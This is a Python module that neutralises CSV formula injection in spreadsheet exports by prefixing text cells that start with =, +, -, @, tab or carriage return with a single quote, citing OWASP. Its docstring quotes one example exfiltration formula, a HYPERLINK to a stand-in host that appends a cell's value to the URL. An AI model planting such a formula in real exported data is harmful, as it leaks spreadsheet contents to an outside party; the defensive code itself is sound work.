"""Spreadsheet exports (CSV, and any future XLSX): every cell goes through :func:`safe_cell`.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(also after a leading tab or carriage return, which some programs strip), so a supplier called
``=HYPERLINK("https://evil.example?"&A1, "Klik")`` would run in the buyer's spreadsheet. As
OWASP advises (CSV injection), such text is written with a single quote in front, which the
spreadsheet shows as text. Numbers the export itself writes (ints, floats, Decimals) are left as
they are, so a negative number stays a number; only text is neutralised.
"""
from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any, Iterable

__all__ = ["FORMULA_TRIGGERS", "csv_text", "safe_cell"]

# What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows and never evaluates.

    Parameters
    ----------
    value
        Text (user-supplied or not), a number, a bool or None.

    Returns
    -------
    The number unchanged, None as ``""``, anything else as text, prefixed with ``'`` when it
    starts with one of :data:`FORMULA_TRIGGERS`.
    """
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    """A CSV document whose every cell went through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
